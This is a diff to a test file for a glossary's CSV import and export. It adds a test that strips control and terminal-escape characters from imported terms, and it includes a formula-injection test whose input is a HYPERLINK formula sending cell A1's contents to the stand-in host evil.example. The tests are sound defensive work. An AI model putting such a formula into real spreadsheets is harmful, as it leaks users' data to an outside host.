@@ -158,6 +158,13 @@ describe('glossary import and export', () => {
 });
 
 describe('glossary CSV export and formula injection', () => {
+  it('an imported CSV never stores control characters in terms or notes', async () => {
+    const { api } = start();
+    const csv = 'source,target,note\r\nBud\u001bget,Presu\u0000puesto,"see\u001b[2J\nthis"\r\n';
+    await api.importGlossary({ ...EN_ES, fileName: 'g.csv', dataBase64: b64(csv), mode: 'merge' });
+    expect((await api.listGlossaryTerms(EN_ES)).map((t) => [t.source, t.target, t.note])).toEqual([['Budget', 'Presupuesto', 'see[2J\nthis']]);
+  });
+
   it('a note starting with a tab is stored trimmed and exported with the apostrophe, never as a formula', async () => {
     const { api } = start();
     await api.addGlossaryTerm({ ...EN_ES, term: { source: '=HYPERLINK("http://evil.example/?x="&A1,"click")', target: 'x', note: '\t=1+1' } });
